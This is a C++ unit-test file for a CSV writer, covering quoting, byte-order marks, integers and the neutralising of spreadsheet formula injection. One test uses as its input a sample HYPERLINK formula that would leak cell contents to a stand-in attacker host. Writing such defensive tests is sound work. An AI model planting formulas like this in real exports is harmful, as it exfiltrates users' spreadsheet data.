// Tests for common/csv: RFC 4180 quoting and the formula-injection defence
// on exports that spreadsheets open.
#include "common/csv.hpp"

#include <gtest/gtest.h>

#include <limits>
#include <string>

using namespace plenary;
using namespace std::string_literals;

namespace {
const std::string bom = "\xEF\xBB\xBF";

// One row of text cells, without the BOM, as written.
std::string row(std::initializer_list<std::string_view> cells) {
    csv_writer w(false);
    for (auto c : cells) w.cell(c);
    w.end_row();
    return w.take();
}
}  // namespace

TEST(Csv, StartsWithByteOrderMarkByDefault) {
    EXPECT_EQ(csv_writer().text(), bom);
    EXPECT_EQ(csv_writer(true).text(), bom);
    EXPECT_EQ(csv_writer(false).text(), "");
}

TEST(Csv, WritesRowsWithCommasAndCrlf) {
    csv_writer w;
    w.cell("name");
    w.cell("email");
    w.cell("seats");
    w.end_row();
    w.cell("Li Wei");
    w.cell("li.wei@example.cn");
    w.cell(std::int64_t{2});
    w.end_row();
    EXPECT_EQ(w.text(), bom + "name,email,seats\r\nLi Wei,li.wei@example.cn,2\r\n");
}

TEST(Csv, KeepsChineseTextAsIs) {
    EXPECT_EQ(row({"张伟", "北京大学", "会议"}), "张伟,北京大学,会议\r\n");
}

TEST(Csv, QuotesCommasQuotesAndLineBreaks) {
    EXPECT_EQ(row({"a,b"}), "\"a,b\"\r\n");
    EXPECT_EQ(row({"say \"hi\""}), "\"say \"\"hi\"\"\"\r\n");
    EXPECT_EQ(row({"\""}), "\"\"\"\"\r\n");
    EXPECT_EQ(row({"line1\nline2"}), "\"line1\nline2\"\r\n");
    EXPECT_EQ(row({"line1\r\nline2"}), "\"line1\r\nline2\"\r\n");
    EXPECT_EQ(row({"北京,上海\n广州"}), "\"北京,上海\n广州\"\r\n");
    EXPECT_EQ(row({"plain", "with space", " lead"}), "plain,with space, lead\r\n");
}

TEST(Csv, EmptyCellsAndRows) {
    EXPECT_EQ(row({"", "", ""}), ",,\r\n");
    EXPECT_EQ(row({""}), "\r\n");
    csv_writer w(false);
    w.end_row();
    w.end_row();
    EXPECT_EQ(w.text(), "\r\n\r\n");
}

TEST(Csv, NeutralisesFormulaStarts) {
    EXPECT_EQ(row({"=1+2"}), "'=1+2\r\n");
    EXPECT_EQ(row({"@SUM(A1:A9)"}), "'@SUM(A1:A9)\r\n");
    EXPECT_EQ(row({"-1+2"}), "'-1+2\r\n");
    EXPECT_EQ(row({"+86 10 1234"}), "'+86 10 1234\r\n");
    EXPECT_EQ(row({"\tx"}), "'\tx\r\n");
    EXPECT_EQ(row({"-"}), "'-\r\n");
    // Not at the start: harmless, left alone.
    EXPECT_EQ(row({"a=b", "1-2", "x@y.cn"}), "a=b,1-2,x@y.cn\r\n");
}

TEST(Csv, NeutralisesBeforeQuoting) {
    // The apostrophe goes inside the quotes, where the spreadsheet reads it.
    EXPECT_EQ(row({"=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Click\")"}),
              "\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1,\"\"Click\"\")\"\r\n");
    EXPECT_EQ(row({"\r=1"}), "\"'\r=1\"\r\n");
    EXPECT_EQ(row({"=a,b"}), "\"'=a,b\"\r\n");
}

TEST(Csv, IntegersStayNumbers) {
    csv_writer w(false);
    w.cell(std::int64_t{-1});
    w.cell(std::int64_t{0});
    w.cell(std::int64_t{42});
    w.cell(std::numeric_limits<std::int64_t>::min());
    w.cell(std::numeric_limits<std::int64_t>::max());
    w.end_row();
    EXPECT_EQ(w.text(), "-1,0,42,-9223372036854775808,9223372036854775807\r\n");
}

TEST(Csv, KeepsBytesLikeNulAndInvalidUtf8Verbatim) {
    // The writer is a formatter, not a validator: what callers stored comes out.
    EXPECT_EQ(row({"a\0b"s}), "a\0b\r\n"s);
    EXPECT_EQ(row({"\xFF"}), "\xFF\r\n");
}

TEST(Csv, TakeHandsOverAndContinuesMidRow) {
    csv_writer w;
    w.cell("a");
    EXPECT_EQ(w.take(), bom + "a");
    EXPECT_EQ(w.text(), "");
    w.cell("b");
    w.end_row();
    w.cell("c");
    w.end_row();
    EXPECT_EQ(w.take(), ",b\r\nc\r\n");
    EXPECT_EQ(w.take(), "");
}
